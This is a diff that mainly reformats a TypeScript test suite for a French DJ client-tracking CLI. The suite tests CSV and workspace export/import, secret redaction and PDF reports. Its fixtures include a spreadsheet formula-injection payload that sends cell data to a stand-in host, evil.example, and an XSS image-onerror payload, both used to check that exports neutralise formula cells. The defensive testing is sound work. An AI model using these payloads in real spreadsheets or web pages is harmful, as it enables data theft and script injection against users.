@@ -25,14 +25,27 @@ const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")';
 const IMG = '<img src=x onerror=alert(1)>';
 const NOW = new Date('2026-01-14T10:00:00Z');
 
-interface Run { code: number; out: string; err: string }
+interface Run {
+  code: number;
+  out: string;
+  err: string;
+}
 
 function runner(db: TestDatabase, now: () => Date = () => NOW) {
   const { env, args } = cliTarget(db.options);
   return async (...argv: string[]): Promise<Run> => {
     let out = '';
     let err = '';
-    const code = await main([...argv, ...args], { out: (t) => { out += t; }, err: (t) => { err += t; }, env, now });
+    const code = await main([...argv, ...args], {
+      out: (t) => {
+        out += t;
+      },
+      err: (t) => {
+        err += t;
+      },
+      env,
+      now,
+    });
     return { code, out, err };
   };
 }
@@ -42,13 +55,52 @@ async function addClientWithGig(db: TestDatabase, name: string, amountCents: num
   const ctx = { database: db, now: () => NOW };
   const ws = await resolveWorkspace(ctx, undefined, false);
   const now = NOW.toISOString();
-  const client = await insertClient(db.db, { workspace_id: ws.id, name, name_key: nameKey(name), contact: null, email: null, phone: '+33 6 12 34 56 78', city: '-Lyon', category: '@cat', notes: 'ligne 1\nligne "2"', file_gigs: null, file_revenue_cents: null, created_import_id: null, created_at: now, updated_at: now });
-  await insertGig(db.db, {
-    workspace_id: ws.id, client_id: client.id, date, amount_cents: amountCents, status: 'done', type: 'Mariage', venue: null, city: null,
-    duration_minutes: 270, notes: '=1+1', reference: null, dedupe_key: gigIdentity({ clientName: name, date, amountCents, type: 'Mariage' }), occurrence: 1,
-    import_id: null, created_at: now, updated_at: now,
+  const client = await insertClient(db.db, {
+    workspace_id: ws.id,
+    name,
+    name_key: nameKey(name),
+    contact: null,
+    email: null,
+    phone: '+33 6 12 34 56 78',
+    city: '-Lyon',
+    category: '@cat',
+    notes: 'ligne 1\nligne "2"',
+    file_gigs: null,
+    file_revenue_cents: null,
+    created_import_id: null,
+    created_at: now,
+    updated_at: now,
   });
-  await db.db.updateTable('clients').set({ gig_count: 1, revenue_cents: amountCents, first_date: date, last_date: date, price_min_cents: amountCents, price_max_cents: amountCents }).where('id', '=', client.id).execute();
+  await insertGig(db.db, {
+    workspace_id: ws.id,
+    client_id: client.id,
+    date,
+    amount_cents: amountCents,
+    status: 'done',
+    type: 'Mariage',
+    venue: null,
+    city: null,
+    duration_minutes: 270,
+    notes: '=1+1',
+    reference: null,
+    dedupe_key: gigIdentity({ clientName: name, date, amountCents, type: 'Mariage' }),
+    occurrence: 1,
+    import_id: null,
+    created_at: now,
+    updated_at: now,
+  });
+  await db.db
+    .updateTable('clients')
+    .set({
+      gig_count: 1,
+      revenue_cents: amountCents,
+      first_date: date,
+      last_date: date,
+      price_min_cents: amountCents,
+      price_max_cents: amountCents,
+    })
+    .where('id', '=', client.id)
+    .execute();
   return client;
 }
 
@@ -82,10 +134,14 @@ for (const engine of testEngines()) {
       expect(csv.startsWith('\uFEFF"Nom du client";"Contact";')).toBe(true);
       expect(csv).toContain('"ISTRES PROVENCE HANDBALL";"Marc Olivier";');
       // French form for Excel, then the raw value.
-      expect(csv).toContain('"32";"4580,00";"4580.00";"10/09/2022";"2022-09-10";"20/12/2025";"2025-12-20";"120,00";"120.00";"180,00";"180.00"');
+      expect(csv).toContain(
+        '"32";"4580,00";"4580.00";"10/09/2022";"2022-09-10";"20/12/2025";"2025-12-20";"120,00";"120.00";"180,00";"180.00"',
+      );
       expect(csv.split('\r\n').length).toBe(25 + 2);
       const gigs = readFileSync(gigsFile, 'utf8');
-      expect(gigs).toContain('"P2022-0001";"02/04/2022";"2022-04-02";"BAR DU PORT MARTIGUES";"Soirée bar";"Bar";"Martigues";"80,00";"80.00";"240 min";"réalisée";""\r\n');
+      expect(gigs).toContain(
+        '"P2022-0001";"02/04/2022";"2022-04-02";"BAR DU PORT MARTIGUES";"Soirée bar";"Bar";"Martigues";"80,00";"80.00";"240 min";"réalisée";""\r\n',
+      );
 
       const clientsImport = await dst('import', 'clients', clientsFile, '--json');
       expect(JSON.parse(clientsImport.out)).toMatchObject({ rows: 25, imported: 25, rejected: [], warnings: [] });
@@ -109,7 +165,9 @@ for (const engine of testEngines()) {
       await src('export', 'gigs', gigsFile);
       const csv = readFileSync(clientsFile, 'utf8');
       // Every cell starting with = + - @ gets a leading ' (and is quoted, quotes doubled).
-      expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1;""Cliquez"")";"";"";"'+33 6 12 34 56 78";"'-Lyon";"'@cat";"ligne 1\nligne ""2""";`);
+      expect(csv).toContain(
+        `"'=HYPERLINK(""http://evil.example/?x=""&A1;""Cliquez"")";"";"";"'+33 6 12 34 56 78";"'-Lyon";"'@cat";"ligne 1\nligne ""2""";`,
+      );
       expect(csv).toContain(`"${IMG}"`);
       const gigCsv = readFileSync(gigsFile, 'utf8');
       expect(gigCsv).toContain(`"${IMG}";"Mariage";"";"";"50,00";"50.00";"270 min";"réalisée";"'=1+1"`);
@@ -121,8 +179,14 @@ for (const engine of testEngines()) {
       const list = JSON.parse((await dst('clients', '--as-of', expected.asOf, '--json')).out) as { name: string; revenue: number }[];
       expect(list.find((c) => c.name === HYPERLINK)?.revenue).toBe(123.45);
       expect(list.find((c) => c.name === IMG)?.revenue).toBe(50);
-      expect((await dst('overview', '--as-of', expected.asOf, '--json')).out).toBe((await src('overview', '--as-of', expected.asOf, '--json')).out);
-      const stored = await target.db.selectFrom('clients').select(['name', 'phone', 'city', 'category', 'notes']).where('name', '=', HYPERLINK).executeTakeFirstOrThrow();
+      expect((await dst('overview', '--as-of', expected.asOf, '--json')).out).toBe(
+        (await src('overview', '--as-of', expected.asOf, '--json')).out,
+      );
+      const stored = await target.db
+        .selectFrom('clients')
+        .select(['name', 'phone', 'city', 'category', 'notes'])
+        .where('name', '=', HYPERLINK)
+        .executeTakeFirstOrThrow();
       expect(stored).toEqual({ name: HYPERLINK, phone: '+33 6 12 34 56 78', city: '-Lyon', category: '@cat', notes: 'ligne 1\nligne "2"' });
     });
 
@@ -133,17 +197,44 @@ for (const engine of testEngines()) {
       await addClientWithGig(source, IMG, 20_000, '2024-03-03');
       await addNote(ctx, ws, hostile.id, 'Rappeler en mars <b>urgent</b>');
       await updateSettings(ctx, ws, { djName: 'DJ Max', signature: 'Max\n06 00 00 00 00', thresholds: { vipMinGigs: 12 } });
-      await upsertTemplateRow(source.db, ws.id, 'standard', 'Des nouvelles, {{prenom}} ?', 'Bonjour {{prenom}},\n\nÀ bientôt.', '2026-01-10T08:00:00.000Z');
+      await upsertTemplateRow(
+        source.db,
+        ws.id,
+        'standard',
+        'Des nouvelles, {{prenom}} ?',
+        'Bonjour {{prenom}},\n\nÀ bientôt.',
+        '2026-01-10T08:00:00.000Z',
+      );
       await upsertMailSettingsRow(source.db, {
-        workspace_id: ws.id, host: 'smtp.example.fr', port: 587, secure: 0, username: 'dj@example.fr', password_encrypted: 'v1:SECRET-CIPHERTEXT',
-        from_name: 'DJ Max', from_address: 'dj@example.fr', updated_at: '2026-01-10T08:00:00.000Z',
+        workspace_id: ws.id,
+        host: 'smtp.example.fr',
+        port: 587,
+        secure: 0,
+        username: 'dj@example.fr',
+        password_encrypted: 'v1:SECRET-CIPHERTEXT',
+        from_name: 'DJ Max',
+        from_address: 'dj@example.fr',
+        updated_at: '2026-01-10T08:00:00.000Z',
       });
       await ensureContactPrefs(source.db, ws.id, hostile.id, 'token-secret-123');
       await setOptedOut(source.db, hostile.id, '2026-01-05T09:00:00.000Z', 'unsubscribe_link');
       await insertFollowUp(source.db, {
-        workspace_id: ws.id, client_id: hostile.id, date: '2025-12-01', channel: 'email_sent', template: 'standard', subject: 'On se retrouve ?', body: 'Bonjour,\n…',
-        status: 'sent', error: null, outcome: 'answered', outcome_date: '2025-12-03', outcome_auto: 0, window_end_date: '2026-03-01',
-        window_end_at: '2026-03-01T00:00:00.000Z', created_at: '2025-12-01T09:00:00.000Z', confirmed_at: null,
+        workspace_id: ws.id,
+        client_id: hostile.id,
+        date: '2025-12-01',
+        channel: 'email_sent',
+        template: 'standard',
+        subject: 'On se retrouve ?',
+        body: 'Bonjour,\n…',
+        status: 'sent',
+        error: null,
+        outcome: 'answered',
+        outcome_date: '2025-12-03',
+        outcome_auto: 0,
+        window_end_date: '2026-03-01',
+        window_end_at: '2026-03-01T00:00:00.000Z',
+        created_at: '2025-12-01T09:00:00.000Z',
+        confirmed_at: null,
       });
 
       const first = path('json');
@@ -151,7 +242,15 @@ for (const engine of testEngines()) {
       expect((await runner(source)('export', 'workspace', first)).code).toBe(0);
       const imported = await runner(target)('import', 'workspace', first, '--json');
       expect(imported.err).toBe('');
-      expect(JSON.parse(imported.out)).toEqual({ file: first, clients: 27, gigs: 278, notes: 1, followUps: 1, templates: 1, mail: 'imported' });
+      expect(JSON.parse(imported.out)).toEqual({
+        file: first,
+        clients: 27,
+        gigs: 278,
+        notes: 1,
+        followUps: 1,
+        templates: 1,
+        mail: 'imported',
+      });
       const later = new Date('2026-02-01T12:00:00Z');
       expect((await runner(target, () => later)('export', 'workspace', second)).code).toBe(0);
 
@@ -164,7 +263,10 @@ for (const engine of testEngines()) {
       expect(a).not.toContain('SECRET');
       expect(a).not.toContain('token-secret');
       const file = JSON.parse(a);
-      expect(file.clients.find((c: { key: string }) => c.key === nameKey(HYPERLINK))).toMatchObject({ name: HYPERLINK, optedOut: { at: '2026-01-05T09:00:00.000Z', source: 'unsubscribe_link' } });
+      expect(file.clients.find((c: { key: string }) => c.key === nameKey(HYPERLINK))).toMatchObject({
+        name: HYPERLINK,
+        optedOut: { at: '2026-01-05T09:00:00.000Z', source: 'unsubscribe_link' },
+      });
       expect(file.gigs.every((g: { client: unknown }) => typeof g.client === 'string')).toBe(true);
       expect(file.followUps[0]).toMatchObject({ client: nameKey(HYPERLINK), outcome: 'answered', outcomeDate: '2025-12-03' });
 
@@ -173,7 +275,8 @@ for (const engine of testEngines()) {
       const mail = await target.db.selectFrom('mail_settings').selectAll().executeTakeFirstOrThrow();
       expect(mail).toMatchObject({ host: 'smtp.example.fr', password_encrypted: null });
       // The same figures on both sides.
-      const figures = async (db: TestDatabase) => (await runner(db)('clients', '--as-of', '2026-01-14', '--json')).out.replace(/"id":\d+,/g, '');
+      const figures = async (db: TestDatabase) =>
+        (await runner(db)('clients', '--as-of', '2026-01-14', '--json')).out.replace(/"id":\d+,/g, '');
       expect(await figures(target)).toBe(await figures(source));
     });
 
@@ -182,7 +285,12 @@ for (const engine of testEngines()) {
       const file = path('pdf');
       const r = await src('report', '--pdf', file, '--from', '2025-01-01', '--to', '2025-12-31', '--json');
       expect(r.err).toBe('');
-      expect(JSON.parse(r.out)).toMatchObject({ file, asOf: '2026-01-14', period: { from: '2025-01-01', to: '2025-12-31' }, sections: ['overview', 'vip', 'win-back', 'gentle-reminder'] });
+      expect(JSON.parse(r.out)).toMatchObject({
+        file,
+        asOf: '2026-01-14',
+        period: { from: '2025-01-01', to: '2025-12-31' },
+        sections: ['overview', 'vip', 'win-back', 'gentle-reminder'],
+      });
       expect(readFileSync(file).subarray(0, 5).toString()).toBe('%PDF-');
       expect((await src('report')).code).toBe(2);
       expect((await src('report', '--pdf', file, '--from', '2025-02-30')).code).toBe(2);
